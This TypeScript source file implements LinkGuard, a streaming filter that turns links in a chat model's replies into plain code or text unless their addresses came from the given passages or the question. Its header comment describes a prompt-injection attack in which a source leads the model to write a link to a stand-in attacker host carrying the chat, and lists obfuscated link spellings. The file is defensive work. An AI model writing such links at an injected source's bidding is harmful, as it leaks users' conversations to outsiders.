import type { Root } from 'mdast';
import { addressesIn, findLinks, parseMarkdown, type FoundLink } from './find-links';
import { normaliseUrl } from './normalise-url';

/**
 * Checklist 32 and 40, links: a source can talk a model into writing a link that carries the
 * conversation out (`[reset](https://evil.example/?q=<the chat>)`), and a click, or a link
 * preview, sends it. A link in a reply stays a link only when its address is in a passage the
 * model was given, or in the question; any other address is shown as code, visible but neither
 * a link nor auto-linked, and a Markdown link keeps only its text.
 *
 * Links are found as the chat's Markdown parser finds them, not by their spelling: `https:evil`,
 * `h&#116;tp://…`, `<https:…>`, `[r]: https:…` and a bare `www.…` are all links to it. The reply
 * is checked as the reader's renderer will see it, the text already sent included: each piece is
 * parsed after the block it continues, so no later piece can turn earlier text into a link.
 * Like ImageStripper, a tail that may still grow into a link is held back until the next delta
 * decides it.
 */
export class LinkGuard {
  private pending = '';
  /** The text already sent, from the start of its last block: all a new piece can change. */
  private context = '';
  private addresses?: Set<string>;

  constructor(private readonly known: string) {}

  push(delta: string): string {
    const text = this.pending + delta;
    const cut = heldFrom(text);
    this.pending = text.slice(cut);
    return this.guard(text.slice(0, cut));
  }

  flush(): string {
    const rest = this.pending;
    this.pending = '';
    return this.guard(rest);
  }

  private allowed(link: FoundLink): boolean {
    const url = link.url === undefined ? undefined : normaliseUrl(link.url);
    if (url === undefined) return false;
    this.addresses ??= addressesIn(this.known);
    return this.addresses.has(url);
  }

  private guard(piece: string): string {
    if (!piece) return '';
    const at = this.context.length;
    let out = piece;
    for (let pass = 0; ; pass++) {
      const text = this.context + out;
      // No link can be written without one of these.
      if (!LINKISH.test(text)) {
        this.context = text;
        return out;
      }
      const tree = parseMarkdown(text);
      const bad = findLinks(text, tree).filter((link) => !this.allowed(link));
      if (!bad.length || pass === MAX_PASSES) {
        this.context = text.slice(lastBlockStart(text, tree));
        return out;
      }
      // A disarmed link can leave another behind (a label that is itself an address, a code
      // span's backticks next to the text's own): parse again until none is left.
      out = pass === MAX_PASSES - 1 ? BREAK + escapePunctuation(out) : disarm(text, at, bad);
    }
  }
}

const LINKISH = /[:@\]]|www\./i;
const MAX_PASSES = 4;
/** Ends an address or a word written before it (`https://` + `evil.example`): no part of a link may hold it. */
const BREAK = '\u200B';
const OPEN_WORD = /\S+$/;
const BLANK_LINE = /\n[ \t]*\n/g;
/** Longest stretch a link's unclosed brackets are held for; past it the next piece is disarmed instead. */
const HOLD_AT_MOST = 3000;

/**
 * The new piece (text from `at`) with its disallowed links disarmed. A link that began in text
 * already sent can only be broken from this side: its part here is escaped.
 */
function disarm(text: string, at: number, bad: FoundLink[]): string {
  // A reference dissolves with its definition (and `[1]` stays a citation).
  const definitions = bad.some((link) => link.kind === 'definition' && link.start >= at);
  if (bad.some((link) => link.end <= at && !(link.kind === 'reference' && definitions)))
    return BREAK + escapePunctuation(text.slice(at));
  const edits: { start: number; end: number; text: string }[] = [];
  for (const link of bad.sort((a, b) => a.start - b.start)) {
    if (edits.length && link.start < edits.at(-1)!.end) continue; // inside one already disarmed
    if (link.kind === 'reference' && definitions) continue;
    const start = Math.max(link.start, at);
    const source = text.slice(start, link.end);
    edits.push({
      start,
      end: link.end,
      text: link.start < at ? BREAK + escapePunctuation(source) : disarmed(link, source),
    });
  }
  let out = text;
  for (const edit of edits.reverse()) out = out.slice(0, edit.start) + edit.text + out.slice(edit.end);
  return out.slice(at);
}

function disarmed(link: FoundLink, source: string): string {
  switch (link.kind) {
    case 'inline':
      return link.label;
    case 'autolink':
      return code(source.slice(1, -1));
    case 'literal':
      return code(source);
    case 'definition': {
      const colon = source.indexOf(']:');
      return colon < 0
        ? escapePunctuation(source)
        : `\\${source.slice(0, colon + 2)} ${code(source.slice(colon + 2).trim())}`;
    }
    case 'image':
      return '';
    case 'reference':
      return escapePunctuation(source);
  }
}

/** Inline code showing `text` as written, whatever backticks it holds. */
function code(text: string): string {
  const flat = text.replace(/\s+/g, ' ');
  const fence = '`'.repeat(Math.max(0, ...[...flat.matchAll(/`+/g)].map((m) => m[0].length)) + 1);
  const pad = flat.startsWith('`') || flat.endsWith('`') ? ' ' : '';
  return `${fence}${pad}${flat}${pad}${fence}`;
}

/** Every ASCII punctuation mark escaped: no link, autolink or definition can be read from it. */
function escapePunctuation(text: string): string {
  return text.replace(/[!-/:-@[-`{-~]/g, '\\$&');
}

/** Where the last block of the text begins (at its line's start): what follows can change it. */
function lastBlockStart(text: string, tree: Root): number {
  const offset = tree.children.at(-1)?.position?.start.offset ?? 0;
  return text.lastIndexOf('\n', offset - 1) + 1;
}

/**
 * Where the tail that may still grow into a link begins: the last word (an address, `www.`,
 * `<https:` or an e-mail address going on), or the first bracket of this paragraph whose link,
 * reference or definition is not yet complete.
 */
function heldFrom(text: string): number {
  let cut = OPEN_WORD.exec(text)?.index ?? text.length;
  let from = Math.max(0, text.length - HOLD_AT_MOST);
  for (const blank of text.matchAll(BLANK_LINE)) from = Math.max(from, blank.index + blank[0].length);
  for (let i = from; i < cut; i++) {
    if (text[i] !== '[' || text[i - 1] === '\\') continue;
    const end = linkEnd(text, i);
    // Unfinished, or ending in the word held back: held with it.
    if (end < 0 || end >= cut) cut = i;
  }
  // with the word it is in: `https://[evil.example](x)` keeps only its words, which follow it
  return text.slice(0, cut).search(/\S*$/);
}

/**
 * Where the link, reference or definition that the bracket at `i` may begin ends, or -1 while
 * it can still grow into one.
 */
function linkEnd(text: string, i: number): number {
  const close = closing(text, i, '[', ']');
  if (close < 0) return -1;
  const next = text[close + 1];
  if (next === undefined || next === ':') return -1; // a definition is held to its paragraph's end
  if (next === '(') return closing(text, close + 1, '(', ')');
  if (next === '[') return closing(text, close + 1, '[', ']');
  return close;
}

/** The bracket that closes the one at `i` (nesting and backslash escapes counted), or -1. */
function closing(text: string, i: number, open: string, close: string): number {
  let depth = 0;
  for (let j = i; j < text.length; j++) {
    const c = text[j];
    if (c === '\\') j++;
    else if (c === open) depth++;
    else if (c === close && --depth === 0) return j;
  }
  return -1;
}
